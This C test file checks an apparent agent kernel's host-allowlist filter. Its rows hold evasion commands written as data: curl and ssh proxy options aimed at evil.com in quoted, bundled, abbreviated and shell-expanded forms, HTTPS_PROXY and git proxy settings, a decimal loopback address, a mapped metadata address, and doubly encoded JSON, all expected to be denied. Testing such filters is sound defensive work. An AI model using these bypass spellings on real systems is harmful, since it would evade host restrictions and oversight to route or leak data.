/* SPDX-License-Identifier: Apache-2.0 */
/*
 * tests/kernel/test_rev60_hosts.c - review 20 of review 19's fixes to the
 * domain constraints and to JSON held in a string:
 *   - F1: an IPv6 address without brackets whose zone made it longer
 *     than a host name (a '%' and 300 bytes) was no host;
 *   - F2: the reading of IPv6 addresses after "HOST:PORT:" was tried at
 *     every field, so "1:1:1:.." cost quadratic time;
 *   - F3: an option's value in shell quotes ("curl -x 'evil.com:3128'",
 *     "HTTPS_PROXY='evil.com:3128'", $'..') was read with its quotes;
 *   - F4: a bundle of short options ending in -x or -J ("-sSx", "-vJ")
 *     and curl's abbreviated long options ("--preprox", "--proxy1") were
 *     no host options;
 *   - F5: JSON encoded twice whose outer string only a lenient reader
 *     takes (a raw tab, single quotes, the first value of a stream) was
 *     text.
 */
#include <criterion/criterion.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include "kernel/hostcost.h"
#include "kernel/kernelutil.h"

#define NOW         1710000300u
#define WITH_URL(m) "{\"url\":\"https://api.example.com/\"," m "}"
#define CUSTOM_PROD "{\"type\":\"custom\",\"value\":[\"env\",\"prod\"]}"
#define NROWS(a)    (sizeof(a) / sizeof((a)[0]))

Test(rev60_hosts, an_ipv6_address_with_a_long_zone_is_a_host)
{
    static char zone[400], args[3][600];
    kt_row rows[3];
    size_t i;

    memset(zone, '0', 300);
    snprintf(args[0], sizeof(args[0]), WITH_URL("\"target\":\"::ffff:a9fe:a9fe%%%s\""), zone);
    snprintf(args[1], sizeof(args[1]), WITH_URL("\"args\":[\"-x\",\"::1%%%s\"]"), zone);
    snprintf(args[2], sizeof(args[2]), WITH_URL("\"o\":\"--resolve api.example.com:443:::1%%%s\""),
             zone);
    for (i = 0; i < 3; i++) {
        rows[i].constraint = KT_DX("api.example.com");
        rows[i].args = args[i];
        rows[i].allow = 0;
    }
    kt_run_rows_at(NOW, rows, 3);
}

Test(rev60_hosts, an_option_value_in_shell_quotes_is_read_unquoted)
{
    static const kt_row rows[] = {
        {KT_DX("api.example.com"), WITH_URL("\"cmd\":\"curl -x 'evil.com:3128' https://a\""), 0},
        {KT_DX("api.example.com"), WITH_URL("\"cmd\":\"curl -x \\\"2130706433\\\" https://a\""), 0},
        {KT_DX("api.example.com"),
         WITH_URL("\"cmd\":\"curl --resolve \\\"api.example.com:443:127.0.0.1\\\" https://a\""), 0},
        {KT_DX("api.example.com"), WITH_URL("\"cmd\":\"HTTPS_PROXY='evil.com:3128' curl x\""), 0},
        {KT_DX("api.example.com"), WITH_URL("\"cmd\":\"ssh -J 'x_y.evil.com' host\""), 0},
        {KT_DX("api.example.com"), WITH_URL("\"cmd\":\"curl -x $'evil.com:3128' https://a\""), 0},
        {KT_DX("api.example.com"), WITH_URL("\"cmd\":\"curl -x \\\"::ffff:7f00:1\\\" https://a\""),
         0},
        /* the allowed host quoted, and quoted text that names no host */
        {KT_DX("api.example.com"),
         WITH_URL("\"cmd\":\"curl -x 'api.example.com:3128' https://api.example.com/\""), 1},
        {KT_DX("api.example.com"), WITH_URL("\"cmd\":\"echo 'it is 10:30' \\\"ok\\\"\""), 1},
    };

    kt_run_rows_at(NOW, rows, NROWS(rows));
}

Test(rev60_hosts, bundled_and_abbreviated_host_options_are_read)
{
    static const kt_row rows[] = {
        {KT_DX("api.example.com"), WITH_URL("\"cmd\":\"curl -sx evil.com:3128 https://a\""), 0},
        {KT_DX("api.example.com"), WITH_URL("\"cmd\":\"curl -sSx 2130706433:3128 https://a\""), 0},
        {KT_DX("api.example.com"), WITH_URL("\"cmd\":\"curl -sSxevil.com:3128 https://a\""), 0},
        {KT_DX("api.example.com"), WITH_URL("\"cmd\":\"ssh -vJ evil.com host\""), 0},
        {KT_DX("api.example.com"), WITH_URL("\"cmd\":\"curl --preprox evil.com:3128 https://a\""),
         0},
        {KT_DX("api.example.com"), WITH_URL("\"cmd\":\"curl --proxy1 2130706433 https://a\""), 0},
        {KT_DX("api.example.com"), WITH_URL("\"cmd\":\"curl --socks5-host 2130706433 x\""), 0},
        {KT_DX("api.example.com"), WITH_URL("\"args\":[\"curl\",\"-sx\",\"2130706433\",\"x\"]"), 0},
        /* other bundles and long options stay as they were */
        {KT_DX("api.example.com"), WITH_URL("\"cmd\":\"tar -xzf a.tgz && ls -la 2130706433\""), 1},
        {KT_DX("api.example.com"),
         WITH_URL("\"cmd\":\"curl --retry 3 --connect-timeout 2130706433 x\""), 1},
    };

    kt_run_rows_at(NOW, rows, NROWS(rows));
}

/* "{\"host\":\"evil.com\"}" as a string literal whose outer layer only a
 * lenient reader takes */
Test(rev60_hosts, json_encoded_twice_in_a_lenient_outer_string_is_read)
{
    static const kt_row rows[] = {
        {KT_DX("api.example.com"),
         WITH_URL("\"p\":\"\\\"{\\\\\\\"host\\\\\\\": \\\\\\\"evil.com\\\\\\\"}\\t\\\"\""), 0},
        {KT_DX("api.example.com"), WITH_URL("\"p\":\"'{\\\"host\\\": \\\"evil.com\\\"}'\""), 0},
        {KT_DX("api.example.com"),
         WITH_URL("\"p\":\"\\\"{\\\\\\\"host\\\\\\\": \\\\\\\"evil.com\\\\\\\"}\\\"\\n\\\"x\\\"\""),
         0},
        {CUSTOM_PROD, "{\"env\":\"prod\",\"p\":\"'{\\\"env\\\": \\\"staging\\\"}'\"}", 0},
        {CUSTOM_PROD, "{\"env\":\"prod\",\"p\":\"u'{\\\"env\\\": \\\"staging\\\"}'\"}", 0},
        {CUSTOM_PROD, "{\"env\":\"prod\",\"p\":\"b'{\\\"env\\\": \\\"staging\\\"}'\"}", 0},
        /* quoted text that holds no JSON, and the allowed values */
        {CUSTOM_PROD, "{\"env\":\"prod\",\"p\":\"'hello' and 'world'\"}", 1},
        {CUSTOM_PROD, "{\"env\":\"prod\",\"p\":\"'{\\\"env\\\": \\\"prod\\\"}'\"}", 1},
    };

    kt_run_rows_at(NOW, rows, NROWS(rows));
}

/* CPU time, not the wall clock, held to a ratio: 4 times the bytes may
 * cost about 4 times the time (quadratic: 16) */
Test(rev60_hosts, a_run_of_ports_costs_linear_time)
{
    static const char *const tools[] = {"t"};
    chio_kernel *k = kt_echo_kernel(NULL, hc_clock, "srv", tools, 1);
    char sid[CHIO_SESSION_ID_LEN + 1];
    double t1, t4;

    kt_grant_session(k, NOW, "cap-cost", KT_DX("api.example.com"), sid);
    (void)hc_call_cpu(k, sid, "p", "", "1:", "", 1 << 16); /* warm */
    t1 = hc_call_cpu(k, sid, "p", "", "1:", "", 1 << 18);
    t4 = hc_call_cpu(k, sid, "p", "", "1:", "", 1 << 20);
    cr_expect_lt(t4, 8 * t1 + 0.05, "256 KiB took %.4f s, 1 MiB %.4f s (ratio %.1f)", t1, t4,
                 t4 / (t1 > 0 ? t1 : 1e-9));
    chio_kernel_free(k);
}

/* review 21 (hostfix): H1 bundles with digits or '#', long options in
 * any case, three-letter abbreviations; H2 a line continuation before
 * the value; H3 a value the shell expands; H4 and L2 KEY VALUE after
 * ssh's -o and git's config; M1 JSON text is no command (its quotes
 * removed would run its members together); L1 other programs' bundles
 * are no host options */
Test(rev60_hosts, more_spellings_of_host_options_are_read_and_other_bundles_are_not)
{
    static const kt_row rows[] = {
        {KT_DX("api.example.com"), WITH_URL("\"cmd\":\"curl -4x evil.com:3128 x\""), 0},
        {KT_DX("api.example.com"), WITH_URL("\"cmd\":\"curl -#x 2130706433 x\""), 0},
        {KT_DX("api.example.com"), WITH_URL("\"cmd\":\"ssh -6J evil.com host\""), 0},
        {KT_DX("api.example.com"), WITH_URL("\"cmd\":\"curl --PROXY evil.com:3128 x\""), 0},
        {KT_DX("api.example.com"), WITH_URL("\"cmd\":\"curl --pre evil.com:3128 x\""), 0},
        {KT_DX("api.example.com"), WITH_URL("\"cmd\":\"curl -x \\\\\\n evil.com:3128 x\""), 0},
        {KT_DX("api.example.com"), WITH_URL("\"cmd\":\"curl -x ${P:-evil.com} x\""), 0},
        {KT_DX("api.example.com"), WITH_URL("\"cmd\":\"curl -x ev${X}il.com x\""), 0},
        {KT_DX("api.example.com"), WITH_URL("\"cmd\":\"ssh -o 'ProxyJump evil.com' host\""), 0},
        {KT_DX("api.example.com"),
         WITH_URL("\"cmd\":\"git config --global http.proxy evil.com:3128\""), 0},
        {KT_DX("api.example.com"), WITH_URL("\"args\":[\"/usr/bin/curl\",\"-sx\",\"2130706433\"]"),
         0},
        /* other programs' bundles, and JSON text in a string */
        {KT_DX("api.example.com"), WITH_URL("\"cmd\":\"bash -ex deploy.sh && git clean -fdx\""), 1},
        {KT_DX("api.example.com"), WITH_URL("\"cmd\":\"ls -lax notes.txt; sh -eux build.sh\""), 1},
        {KT_DX("api.example.com"), WITH_URL("\"args\":[\"git\",\"clean\",\"-fdx\",\"3232235777\"]"),
         1},
        {KT_DX("api.example.com"),
         WITH_URL("\"body\":\"{\\\"name\\\":\\\"report.pdf\\\",\\\"size\\\":1}\""), 1},
    };

    kt_run_rows_at(NOW, rows, NROWS(rows));
}
